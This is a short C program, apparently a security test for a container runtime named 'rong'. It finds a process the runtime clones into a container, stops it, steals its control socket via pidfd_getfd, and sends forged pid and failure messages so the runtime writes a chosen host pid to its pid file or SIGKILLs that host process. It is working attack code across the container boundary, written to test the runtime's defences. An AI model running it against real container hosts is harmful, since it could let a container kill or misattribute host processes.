// forge_exec_pid VICTIM: what a process with CAP_SYS_PTRACE in a container can do to a process
// rong exec clones into its pid namespace: stop it, take its socket to rong (pidfd_getfd), and
// tell rong the process is host pid VICTIM, then that it failed. rong must believe neither: it
// would write VICTIM to the pid file, or SIGKILL it on the failure.
#define _GNU_SOURCE
#include <dirent.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

static char known[1 << 16];

// The first pid in /proc not seen before (0: none); with `remember`, marks them all as seen.
static int new_pid(int remember) {
    DIR* proc = opendir("/proc");
    struct dirent* e;
    int found = 0;
    while (proc && (e = readdir(proc)) && !found) {
        int pid = atoi(e->d_name);
        if (pid <= 1 || pid >= (int)sizeof known || pid == getpid()) continue;
        if (remember) known[pid] = 1;
        else if (!known[pid]) found = pid;
    }
    if (proc) closedir(proc);
    return found;
}

int main(int argc, char** argv) {
    if (argc != 2) return 2;
    new_pid(1);
    for (;;) {
        int pid;
        while (!(pid = new_pid(0))) {
        }
        known[pid] = 1;
        kill(pid, SIGSTOP);
        int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
        int sock = -1;
        for (int fd = 3; fd < 64 && sock < 0 && pidfd >= 0; fd++) {
            struct stat st;
            int got = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);
            if (got >= 0 && fstat(got, &st) == 0 && S_ISSOCK(st.st_mode)) sock = got;
        }
        if (sock < 0) {
            kill(pid, SIGCONT);
            continue;
        }
        usleep(200000);
        dprintf(sock, "P%s", argv[1]);
        kill(pid, SIGKILL);
        usleep(200000);
        (void)!write(sock, "Eforged", 7);
        printf("forged %d\n", pid);
        fflush(stdout);
        pause();
    }
}
